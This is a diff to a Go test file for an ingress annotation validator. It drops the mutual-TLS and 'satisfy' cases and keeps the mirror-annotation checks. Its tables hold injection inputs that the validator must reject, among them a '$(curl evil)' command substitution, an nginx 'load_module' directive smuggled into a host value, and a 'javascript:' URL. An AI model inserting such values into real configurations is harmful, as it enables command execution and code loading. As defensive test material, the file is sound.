@@ -22,28 +22,9 @@ func TestCheck(t *testing.T) {
 		msg        string // a part of the message, when not none
 	}{
 		// Empty is absent, as in ingress-nginx.
-		{"auth-tls-secret", "", none, ""},
 		{"mirror-target", "", none, ""},
 
-		// Access control: a valid value rejects, saying why.
-		{"auth-tls-secret", "default/ca", reject, "not supported by Switchyard yet"},
-		{"auth-tls-secret", "ca", reject, "not supported by Switchyard yet"},
-		{"auth-tls-verify-client", "optional_no_ca", reject, "not supported"},
-		{"auth-tls-verify-depth", "2", reject, "not supported"},
-		{"auth-tls-error-page", "https://e.example.com/cert-error", reject, "not supported"},
-		{"auth-tls-pass-certificate-to-upstream", "true", reject, "not supported"},
-		{"auth-tls-match-cn", "CN=(hello-app|ok|goodbye)", reject, "not supported"},
-		{"satisfy", "any", reject, "not supported"},
-
 		// Invalid values reject with what is wrong.
-		{"auth-tls-secret", "a/b/c", reject, "not a Secret name"},
-		{"auth-tls-secret", "Upper/ca", reject, "not a Secret name"},
-		{"auth-tls-verify-client", "maybe", reject, "does not match"},
-		{"auth-tls-match-cn", `CN=x"; } location / { return 200`, reject, "does not match"},
-		{"auth-tls-match-cn", "CN=(", reject, "not a regular expression"},
-		{"auth-tls-match-cn", "O=org", reject, "does not match"},
-		{"auth-tls-error-page", "javascript:alert(1)", reject, "does not match"},
-		{"satisfy", "some", reject, "does not match"},
 		{"mirror-target", `https://x/$(curl evil)`, reject, "does not match"},
 		{"mirror-host", `x; load_module /tmp/x.so`, reject, "does not match"},
 		{"mirror-host", `${x}`, reject, "does not match"},
@@ -81,10 +62,6 @@ func TestCheck(t *testing.T) {
 func TestDescribe(t *testing.T) {
 	d := New().Describe()
 	risks := map[string]plugins.Risk{
-		"auth-tls-secret": plugins.RiskMedium, "auth-tls-verify-client": plugins.RiskMedium,
-		"auth-tls-verify-depth": plugins.RiskLow, "auth-tls-error-page": plugins.RiskHigh,
-		"auth-tls-pass-certificate-to-upstream": plugins.RiskLow, "auth-tls-match-cn": plugins.RiskHigh,
-		"satisfy":       plugins.RiskLow,
 		"mirror-target": plugins.RiskHigh, "mirror-host": plugins.RiskHigh, "mirror-request-body": plugins.RiskLow,
 	}
 	if d.Name != "compat" || len(d.Annotations) != len(risks) {
@@ -102,7 +79,7 @@ func TestDescribe(t *testing.T) {
 
 func TestApply(t *testing.T) {
 	batch := []plugins.Ingress{
-		{Namespace: "a", Name: "mtls", Annotations: map[string]string{"auth-tls-secret": "a/ca", "mirror-host": "m.example.com"}},
+		{Namespace: "a", Name: "both", Annotations: map[string]string{"mirror-request-body": "yes", "mirror-host": "m.example.com"}},
 		{Namespace: "a", Name: "mirror", Annotations: map[string]string{"mirror-target": "https://m.example.com/"}},
 	}
 	results := plugintest.Apply(t, New(), batch)
@@ -114,8 +91,8 @@ func TestApply(t *testing.T) {
 			t.Errorf("%s: features %+v: the guard must never return features", r.Name, r.Features)
 		}
 	}
-	if e := results[0].Errors; len(e) != 2 || e[0].Key != "auth-tls-secret" || e[0].Warning || e[1].Key != "mirror-host" || !e[1].Warning {
-		t.Errorf("mtls: errors %+v, want a rejection for auth-tls-secret then a warning for mirror-host", e)
+	if e := results[0].Errors; len(e) != 2 || e[0].Key != "mirror-host" || !e[0].Warning || e[1].Key != "mirror-request-body" || e[1].Warning {
+		t.Errorf("both: errors %+v, want a warning for mirror-host then a rejection for mirror-request-body", e)
 	}
 	if e := results[1].Errors; len(e) != 1 || !e[0].Warning {
 		t.Errorf("mirror: errors %+v, want one warning", e)
@@ -130,9 +107,7 @@ func FuzzCheck(f *testing.F) {
 	for _, k := range Keys() {
 		f.Add(k, "x")
 	}
-	f.Add("auth-tls-match-cn", `CN=x"; }`)
 	f.Add("mirror-target", "https://a/$request_uri")
-	f.Add("satisfy", "any")
 	f.Fuzz(func(t *testing.T, key, value string) {
 		e, ok := Check(key, value)
 		if ok && !e.Warning {
